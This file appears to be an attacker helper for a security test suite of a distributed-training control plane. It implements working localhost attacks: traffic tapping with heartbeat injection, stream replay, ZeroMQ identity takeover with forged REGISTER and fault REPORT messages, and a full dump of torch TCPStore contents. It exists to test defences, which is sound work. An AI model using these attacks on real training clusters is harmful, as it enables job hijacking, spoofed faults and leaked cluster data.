"""An attacker of the control plane (tests/ttp/test_security.py): a process that reaches the job's ports
and sees its traffic, but holds no credential (no job secret, no CURVE client key of the job).

    _attacker.py tap OUT TARGET_PORT       on-path relay in front of ranks (writes its port to OUT/port); records
                                           each connection's rank-to-controller bytes (OUT/up<i>.bin). When a
                                           rank's side closes (the rank died), it keeps the controller's side
                                           open and injects that rank's recorded HEARTBEAT frames again, one per
                                           0.1 s, into the live connection, until OUT/stop exists.
    _attacker.py replay OUT TARGET_PORT    off-path: replays every recorded stream OUT/up<i>.bin (ZMTP greeting,
                                           HELLO, REGISTER, heartbeats: the bytes as captured) on a new connection
                                           every 0.2 s, until OUT/stop exists.
    _attacker.py dump OUT STORE_PORT       a client of a torch.distributed TCPStore (the agent store of mindio-run, the
                                           store of torchrun): every key and value it holds, and those of every
                                           store whose port a key ``.../port`` names (mindio-run's worker stores).
    _attacker.py takeover OUT TARGET_PORT IDENTITY [SERVER_PUBLIC]
                                           a DEALER with the ZeroMQ identity a rank used to have (with CURVE: the
                                           server's public key and a keypair of its own), which also sends a
                                           backup REGISTER and a fault REPORT signed with a guessed key; reads
                                           until OUT/stop exists.

Each one ends by writing OUT/<command>.json: what it received from the controller (frames, and how many of
them were ACTIONs: a rank's orders reaching the attacker).
"""
from __future__ import annotations

import json
import os
import select
import socket
import sys
import threading
import time

import msgpack
import zmq

from mindio.ttp.wire import protocol as P

_GREETING = 64  # ZMTP 3 greeting


class Frames:
    """Splits a ZMTP 3 byte stream (after its greeting) into frames: (raw bytes, is_command, body)."""

    def __init__(self) -> None:
        self.buf, self.greeted = b"", False

    def feed(self, data: bytes) -> list:
        self.buf += data
        out = []
        if not self.greeted:
            if len(self.buf) < _GREETING:
                return out
            self.buf, self.greeted = self.buf[_GREETING:], True
        while len(self.buf) >= 2:
            flags = self.buf[0]
            head = 9 if flags & 0x02 else 2
            if len(self.buf) < head:
                break
            size = int.from_bytes(self.buf[1:head], "big")
            if len(self.buf) < head + size:
                break
            out.append((self.buf[:head + size], bool(flags & 0x04), self.buf[head:head + size]))
            self.buf = self.buf[head + size:]
        return out


def msg_type(body: bytes) -> int | None:
    """The MsgType of a control frame, read without the secret (the payload is plain msgpack)."""
    try:
        items = msgpack.unpackb(body[:-32], raw=False)
        return items[1] if isinstance(items, list) and len(items) > 2 else None
    except Exception:
        return None


def _stop(out: str) -> bool:
    return os.path.exists(os.path.join(out, "stop"))


def _drain(sock: socket.socket, seen: dict, frames: Frames) -> bool:
    """Read what the controller sent us (counting frames / ACTIONs); False once it closed."""
    try:
        data = sock.recv(65536)
    except OSError:
        return False
    if not data:
        return False
    for _raw, is_cmd, body in frames.feed(data):
        if not is_cmd:
            seen["frames"] += 1
            seen["actions"] += msg_type(body) == P.MsgType.ACTION
    return True


def tap(out: str, target: int) -> None:
    srv = socket.create_server(("127.0.0.1", 0))
    with open(os.path.join(out, "port.tmp"), "w") as f:
        f.write(str(srv.getsockname()[1]))
    os.rename(os.path.join(out, "port.tmp"), os.path.join(out, "port"))
    srv.settimeout(0.2)
    injected, threads = [0], []

    def relay(i: int, rank_side: socket.socket) -> None:
        ctl = socket.create_connection(("127.0.0.1", target))
        record = open(os.path.join(out, f"up{i}.bin"), "wb")
        up, beats, alive = Frames(), [], True
        while not _stop(out):
            ready, _, _ = select.select([rank_side, ctl] if alive else [ctl], [], [], 0.1)
            if ctl in ready:
                try:
                    data = ctl.recv(65536)
                except OSError:
                    data = b""
                if not data:
                    break
                if alive:
                    rank_side.sendall(data)
            if alive and rank_side in ready:
                try:
                    data = rank_side.recv(65536)
                except OSError:
                    data = b""
                if not data:
                    alive = False  # the rank died: we keep its connection to the controller open
                    continue
                record.write(data)
                record.flush()
                ctl.sendall(data)
                beats += [raw for raw, is_cmd, body in up.feed(data)
                          if not is_cmd and msg_type(body) == P.MsgType.HEARTBEAT]
            if not alive and beats:  # inject the rank's captured heartbeats into its live connection
                ctl.sendall(beats[injected[0] % len(beats)])
                injected[0] += 1
                time.sleep(0.1)
        ctl.close()
        record.close()

    i = 0
    while not _stop(out):
        try:
            conn, _ = srv.accept()
        except socket.timeout:
            continue
        t = threading.Thread(target=relay, args=(i, conn), daemon=True)
        t.start()
        threads.append(t)
        i += 1
    for t in threads:
        t.join(5)
    _report(out, "tap", {"connections": i, "injected": injected[0]})


def replay(out: str, target: int) -> None:
    streams = [open(os.path.join(out, n), "rb").read() for n in sorted(os.listdir(out))
               if n.startswith("up") and n.endswith(".bin")]
    seen, conns = {"frames": 0, "actions": 0, "connections": 0}, []
    while not _stop(out):
        for data in streams:
            frames = Frames()
            try:
                s = socket.create_connection(("127.0.0.1", target), timeout=5)
            except OSError:  # the controller is gone (the job ended): nothing left to attack
                seen["refused"] = seen.get("refused", 0) + 1
                continue
            seen["connections"] += 1
            try:
                s.sendall(data[:_GREETING])  # libzmq reads the rest only after it sent its own greeting
                got = b""
                while len(got) < _GREETING:
                    chunk = s.recv(_GREETING - len(got))
                    if not chunk:
                        break
                    got += chunk
                frames.feed(got)
                s.sendall(data[_GREETING:])
            except OSError:  # the controller cut the connection (e.g. a CURVE handshake it refused)
                seen["cut"] = seen.get("cut", 0) + 1
                s.close()
                continue
            s.setblocking(False)
            conns.append((s, frames))
        with open(os.path.join(out, "replay.tmp"), "w") as f:  # progress, for the test to wait on
            f.write(str(seen["connections"]))
        os.rename(os.path.join(out, "replay.tmp"), os.path.join(out, "replay.progress"))
        deadline = time.monotonic() + 0.2
        while time.monotonic() < deadline:
            ready, _, _ = select.select([s for s, _f in conns], [], [], 0.05)
            for s, frames in conns:
                if s in ready and not _drain(s, seen, frames):
                    s.close()
            conns = [(s, f) for s, f in conns if s.fileno() >= 0]
        while len(conns) > 20:  # keep a bounded number of replayed connections open
            conns.pop(0)[0].close()
    for s, _f in conns:
        s.close()
    _report(out, "replay", seen)


def takeover(out: str, target: int, identity: str, server_public: str = "") -> None:
    ctx = zmq.Context()
    sock = ctx.socket(zmq.DEALER)
    sock.setsockopt(zmq.IDENTITY, identity.encode())
    sock.setsockopt(zmq.LINGER, 0)
    if server_public:  # CURVE: the server's key is public; the client keypair is the attacker's own
        pub, sec = zmq.curve_keypair()
        sock.setsockopt(zmq.CURVE_SERVERKEY, server_public.encode())
        sock.setsockopt(zmq.CURVE_PUBLICKEY, pub)
        sock.setsockopt(zmq.CURVE_SECRETKEY, sec)
    sock.connect(f"tcp://127.0.0.1:{target}")
    guess = b"guessed-secret-0123456789abcdef!"
    for env in (P.Envelope(P.MsgType.REGISTER, P.Register(world_size=2, pid=1, host="evil", role="backup",
                                                          addr="tcp://127.0.0.1:9"), rank=-1000),
                P.Envelope(P.MsgType.REPORT, P.Report(state=2, message="UCE ERROR", step=1), rank=int(identity))):
        sock.send(P.encode(env, guess))
    seen = {"frames": 0, "actions": 0}
    while not _stop(out):
        if sock.poll(100):
            body = sock.recv()
            seen["frames"] += 1
            seen["actions"] += msg_type(body) == P.MsgType.ACTION
    sock.close(0)
    ctx.term()
    _report(out, "takeover", seen)


def dump(out: str, port: int) -> None:
    import datetime

    import torch.distributed as dist

    stores, todo = {}, [port]
    while todo:
        p = todo.pop()
        store = dist.TCPStore("127.0.0.1", p, is_master=False, wait_for_workers=False,
                              timeout=datetime.timedelta(seconds=10))
        keys = store.list_keys()
        values = store.multi_get(keys) if keys else []
        stores[p] = {k: v.decode(errors="replace") for k, v in zip(keys, values)}
        todo += [int(v) for k, v in stores[p].items() if k.endswith("/port") and v.isdigit() and int(v) not in stores]
    _report(out, "dump", {str(p): kv for p, kv in stores.items()})


def _report(out: str, name: str, data: dict) -> None:
    with open(os.path.join(out, f"{name}.json"), "w") as f:
        json.dump(data, f)


if __name__ == "__main__":
    cmd, out, port, *rest = sys.argv[1:]
    {"tap": tap, "replay": replay, "takeover": takeover, "dump": dump}[cmd](out, int(port), *rest)
